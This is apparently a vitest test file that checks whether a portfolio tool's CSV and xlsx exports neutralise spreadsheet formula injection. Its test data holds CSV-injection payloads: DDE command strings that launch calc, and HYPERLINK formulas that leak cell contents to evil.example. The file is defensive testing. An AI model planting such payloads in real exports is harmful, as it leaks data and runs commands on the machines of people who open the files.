// Formula injection (OWASP "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection): a cell whose
// text starts with =, +, -, @, a tab or a carriage return must reach the coordinator's spreadsheet as text. Both
// exports are opened the way a spreadsheet would: the CSV parsed field by field, the workbook read back by exceljs
// and its sheet XML searched for formula elements.
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { buildCsv } from '../../src/export/csv';
import { buildXlsx } from '../../src/export/xlsx';
import { portfolioExportTable, type ExportTable } from '../../src/export/exportTable';
import { neutraliseFormula } from '../../src/export/formulaGuard';
import { toPortfolioViewRows } from '../../src/export/portfolioView';
import { NOW, row, testModel } from '../../testkit/portfolioFixtures';
import { parseCsv } from '../../testkit/parseCsv';

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?leak="&A2;"Klikk her")',
  '=cmd|\' /C calc\'!A0',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
];

const table: ExportTable = {
  name: 'Injeksjon',
  columns: [
    { key: 'text', header: 'Tekst', type: 'text', width: 40 },
    { key: 'number', header: 'Tall', type: 'number', width: 10 },
  ],
  rows: [...PAYLOADS.map((p, i): ExportTable['rows'][number] => [p, -(i + 1)]), ['Vanlig tekst', 0.5]],
};

async function readWorkbook(bytes: Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return sheet;
}

describe('neutraliseFormula', () => {
  it('puts an apostrophe before every formula start OWASP lists, and leaves other text alone', () => {
    for (const p of PAYLOADS) expect(neutraliseFormula(p)).toBe(`'${p}`);
    expect(neutraliseFormula('Lungeprosjekt = bra')).toBe('Lungeprosjekt = bra');
    expect(neutraliseFormula("'allerede sitert")).toBe("'allerede sitert");
    expect(neutraliseFormula('')).toBe('');
  });
});

describe('CSV export', () => {
  const records = parseCsv(buildCsv(table));

  it('writes every payload as text that starts with an apostrophe, whole and unchanged after it', () => {
    expect(records).toHaveLength(PAYLOADS.length + 2);
    PAYLOADS.forEach((p, i) => {
      const field = records[i + 1]?.[0];
      expect(field).toBe(`'${p}`);
    });
  });

  it('keeps real numbers as numbers (a negative number is not text)', () => {
    PAYLOADS.forEach((_, i) => expect(records[i + 1]?.[1]).toBe(String(-(i + 1))));
    expect(records.at(-1)).toEqual(['Vanlig tekst', '0.5']);
  });
});

describe('xlsx export', () => {
  it('holds each payload as a string cell starting with an apostrophe, and no formula anywhere', async () => {
    const bytes = await buildXlsx(table);
    const sheet = await readWorkbook(bytes);
    PAYLOADS.forEach((p, i) => {
      const cell = sheet.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return as a line feed (XML 1.0 §2.11), so the workbook holds \n where \r was typed.
      expect(cell.value).toBe(`'${p.replace(/\r/g, '\n')}`);
      expect(cell.formula).toBeFalsy();
    });
    const zip = await JSZip.loadAsync(bytes);
    const sheetXml = await zip.file('xl/worksheets/sheet1.xml')?.async('string');
    expect(sheetXml).toBeDefined();
    expect(sheetXml).not.toMatch(/<f[\s>]/);
  });

  it('keeps real numbers as number cells', async () => {
    const sheet = await readWorkbook(await buildXlsx(table));
    PAYLOADS.forEach((_, i) => {
      const cell = sheet.getRow(i + 2).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.Number);
      expect(cell.value).toBe(-(i + 1));
    });
  });
});

describe('portfolio export with payloads in every free-text field', () => {
  const payload = '=HYPERLINK("https://evil.example";"x")';
  const rows = [
    row({
      title: payload,
      municipalities: ['@Hamar', 'Løten'],
      hospitalUnit: '+SI',
      gateOverrides: [{ phaseKey: 'utforske', to: 'definere', reason: '-2+3' }],
      currentPhase: 'definere',
    }),
    row({ title: 'Uten fase', gateOverrides: [{ to: 'definere', reason: '=1+1' }] }),
  ];
  const view = toPortfolioViewRows(rows, { language: 'nb', now: NOW, stalledAfterDays: 30 });
  const portfolio = portfolioExportTable(view, testModel, 'nb');
  const col = (key: string) => portfolio.columns.findIndex((c) => c.key === key);

  it('neutralises them in the CSV', () => {
    const records = parseCsv(buildCsv(portfolio));
    expect(records[1]?.[col('title')]).toBe(`'${payload}`);
    expect(records[1]?.[col('municipalities')]).toBe("'@Hamar, Løten");
    expect(records[1]?.[col('hospitalUnit')]).toBe("'+SI");
    expect(records[2]?.[col('gateOverrideReasons')]).toBe("'=1+1");
  });

  it('neutralises them in the workbook', async () => {
    const sheet = await readWorkbook(await buildXlsx(portfolio));
    const title = sheet.getRow(2).getCell(col('title') + 1);
    expect(title.type).toBe(ExcelJS.ValueType.String);
    expect(title.value).toBe(`'${payload}`);
    expect(sheet.getRow(2).getCell(col('hospitalUnit') + 1).value).toBe("'+SI");
    expect(sheet.getRow(3).getCell(col('gateOverrideReasons') + 1).value).toBe("'=1+1");
  });
});
